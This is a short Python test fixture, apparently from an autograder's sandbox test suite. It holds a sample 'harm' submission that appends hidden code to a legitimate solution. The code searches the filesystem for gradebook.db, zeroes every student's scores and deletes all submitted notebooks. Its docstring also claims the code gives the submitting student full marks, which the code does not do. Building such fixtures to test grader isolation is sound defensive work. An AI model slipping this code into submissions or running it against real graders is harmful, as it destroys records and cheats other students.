"""Harm: find gradebook.db and give everyone else zero (and this student full marks)."""

CLASS = "harm"
HONEST = {"count-by-host"}
ANSWERS = {
    "count-by-host": """{solution}

import os
import sqlite3

for _dir, _subdirs, _files in os.walk("/"):
    _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "dev", "usr")]
    if "gradebook.db" in _files:
        try:
            _db = sqlite3.connect(os.path.join(_dir, "gradebook.db"))
            _db.execute("UPDATE grade SET manual_score = 0, auto_score = 0")
            _db.execute("DELETE FROM submitted_notebook")
            _db.commit()
            print("gradebook changed")
        except Exception as exc:
            print("gradebook:", type(exc).__name__)
""",
}
